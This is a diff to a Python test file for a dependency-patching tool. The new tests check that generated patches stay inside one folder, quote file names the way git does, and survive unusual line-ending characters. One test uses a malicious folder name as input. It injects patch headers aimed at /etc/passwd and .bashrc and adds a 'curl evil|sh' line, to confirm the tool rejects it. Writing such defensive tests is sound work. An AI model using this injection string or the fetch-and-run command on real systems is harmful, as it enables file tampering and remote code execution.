@@ -1,6 +1,9 @@
 from __future__ import annotations
 
 import json
+import os
+import re
+import shlex
 import subprocess
 import sys
 from dataclasses import replace
@@ -29,7 +32,7 @@ from tidegate.engines.formats.advisories.record import (
     VendorStatement,
 )
 from tidegate.faces.operator import main
-from tidegate.faces.operator.patching import _shown
+from tidegate.faces.operator.patching import _header, folder_of
 
 
 def _bom(*components: dict[str, str]) -> dict[str, Any]:
@@ -113,7 +116,7 @@ def test_nothing_to_do_is_said_only_where_everything_was_answered(
     operator.does("pull")
     operator.has("package-lock.json", lock("1.2.6"))
     assert operator.does("plan") == 0
-    assert "Nothing to do: 1 components were compared." in operator.said
+    assert "Nothing to do: 1 component was compared." in operator.said
     operator.has("bom.json", _bom({"name": "curl", "version": "8"}))
     assert operator.does("plan", "bom.json") == 1
     assert "no-package-url" in operator.said
@@ -360,9 +363,83 @@ def test_locks_that_only_their_tool_can_write_have_its_command(
     assert "uv lock --upgrade-package minimist==1.2.6" in operator.complained.replace("\n", " ")
 
 
-def test_a_path_of_a_patch_never_leads_out(operator: Operator, tmp_path: Path) -> None:
-    assert _shown(Path("/srv/app/package-lock.json"), tmp_path) == "srv/app/package-lock.json"
-    assert _shown(tmp_path / "a" / "b", tmp_path) == "a/b"
+def test_paths_of_a_patch_begin_in_one_folder_and_never_lead_out_of_it() -> None:
+    here = Path("/home/a")
+    one, two = here / "x" / "package-lock.json", Path("/srv/app/y/requirements.txt")
+    assert folder_of([one], here) == here
+    assert folder_of([two], here) == two.parent
+    assert folder_of([two, Path("/srv/app/z.txt")], here) == Path("/srv/app")
+    assert folder_of([one, two], here) == Path("/")
+    # Not below: only its name begins alike.
+    assert folder_of([Path("/home/ab/c.txt")], here) == Path("/home/ab")
+
+
+@pytest.mark.parametrize("named", ["{place}", "../elsewhere/it's/package-lock.json"])
+def test_a_patch_of_a_file_elsewhere_says_what_to_run_and_that_works(
+    operator: Operator, coordinator: Coordinator, monkeypatch: pytest.MonkeyPatch, named: str
+) -> None:
+    coordinator.publish(record())
+    operator.does("pull")
+    place = operator.folder / "elsewhere" / "it's" / "package-lock.json"
+    place.parent.mkdir(parents=True)
+    (operator.folder / "package-lock.json").rename(place)
+    (operator.folder / "desk").mkdir()
+    monkeypatch.chdir(operator.folder / "desk")
+    operator.does("plan", named.format(place=place), "--patch")
+    assert "--- a/package-lock.json\n" in operator.said
+    words = " ".join(operator.complained.split())
+    assert f"{place}: " in words
+    (line,) = re.findall(r"To apply what was printed: (patch .*) < FILE", words)
+    command = shlex.split(line)
+    assert command == ["patch", "-p1", "-d", str(place.parent)]
+    subprocess.run(command, input=operator.said, text=True, check=True, capture_output=True)
+    assert json.loads(place.read_text())["packages"]["node_modules/minimist"]["version"] == "1.2.6"
+
+
+@pytest.mark.parametrize(
+    "folder",
+    [
+        "x\n--- a/etc/passwd\n+++ b/home/.bashrc\n@@ -0,0 +1 @@\n+curl evil|sh\n",
+        "tab\tand\rmore\x1b[2J\x7f",
+        'quoted"\\n',
+        "größe \u202e\u2028",
+        "with blanks",
+        os.fsdecode(b"no\xfftext"),
+    ],
+)
+def test_the_name_of_a_folder_is_never_more_than_a_name_in_a_patch(
+    operator: Operator, coordinator: Coordinator, folder: str
+) -> None:
+    coordinator.publish(record())
+    operator.does("pull")
+    name = f"{folder}/package-lock.json"
+    (operator.folder / name).parent.mkdir(parents=True)
+    operator.has(name, lock("1.2.0"))
+    untouched = sorted(operator.folder.rglob("*"))
+    document = json.loads(_applied(operator, name))
+    assert document["packages"]["node_modules/minimist"] == {"version": "1.2.6"}
+    assert sorted(operator.folder.rglob("*")) == untouched
+    operator.does("plan", name, "--patch")
+    assert operator.said == ""
+
+
+def test_the_name_in_a_patch_is_what_git_writes() -> None:
+    assert _header("a/package-lock.json") == "a/package-lock.json"
+    assert _header("a/b c") == "a/b c\t"
+    assert _header('a/"\n\\ä\x01') == '"a/\\"\\n\\\\\\303\\244\\001"'
+
+
+@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
+def test_what_only_python_takes_for_the_end_of_a_line_ends_none_in_a_patch(
+    operator: Operator, coordinator: Coordinator, sign: str
+) -> None:
+    coordinator.publish(record("TG-2026-pppp2222", purl="pkg:pypi/minimist", fixed="1.2.6"))
+    operator.does("pull")
+    text = f"# a{sign}--- a/b\nminimist==1.2.0\n# c{sign}d\n"
+    (operator.folder / "requirements.txt").write_bytes(text.encode())
+    _applied(operator, "requirements.txt")
+    after = (operator.folder / "requirements.txt").read_bytes()
+    assert after == text.replace("1.2.0", "1.2.6").encode()
 
 
 def test_one_is_told_of_an_asset_that_is_not_there(
